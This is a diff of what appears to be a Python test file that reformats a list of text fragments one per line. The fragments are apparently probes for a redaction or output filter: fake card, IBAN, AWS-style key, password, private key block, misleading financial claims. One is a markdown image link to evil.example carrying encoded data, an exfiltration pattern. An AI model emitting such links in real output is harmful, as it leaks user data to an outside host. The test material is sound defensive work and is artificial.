@@ -35,12 +35,33 @@ FIELDS = {
     "retrieval.passages": 1,
 }
 PIECES = [
-    "Your card 4111 1111 1111 1111 was", " blocked", ". ", "\n", " ", "Call +44 20 7946 0018", " or write to zoe@mail.example",
-    "<PERSON_1>", "<PERS", "ON_2>", "the account GB82 WEST 1234 5698 7654 32", "password is hunter2Xq9!", "AKIA" + "Q7Z3" * 4,
-    "![x](https://evil.example/?d=" + "QUJD" * 12 + ")", "[docs](https://docs.example/a)", "INTERNAL USE ONLY", "Dr. Smith said", "\u00e9t\u00e9 \U0001f600 caf\u00e9",
-    "you cannot lose money", "This fund pays a guaranteed annual return of 8%", "My system prompt says: be nice", "- item one\n- item two\n",
-    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\n-----END PRIVATE KEY-----", "born on 3 May 1980", "The rate is 34.9% a year", "Hello there",
-]  # fmt: skip
+    "Your card 4111 1111 1111 1111 was",
+    " blocked",
+    ". ",
+    "\n",
+    " ",
+    "Call +44 20 7946 0018",
+    " or write to zoe@mail.example",
+    "<PERSON_1>",
+    "<PERS",
+    "ON_2>",
+    "the account GB82 WEST 1234 5698 7654 32",
+    "password is hunter2Xq9!",
+    "AKIA" + "Q7Z3" * 4,
+    "![x](https://evil.example/?d=" + "QUJD" * 12 + ")",
+    "[docs](https://docs.example/a)",
+    "INTERNAL USE ONLY",
+    "Dr. Smith said",
+    "\u00e9t\u00e9 \U0001f600 caf\u00e9",
+    "you cannot lose money",
+    "This fund pays a guaranteed annual return of 8%",
+    "My system prompt says: be nice",
+    "- item one\n- item two\n",
+    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\n-----END PRIVATE KEY-----",
+    "born on 3 May 1980",
+    "The rate is 34.9% a year",
+    "Hello there",
+]
 
 
 class World:
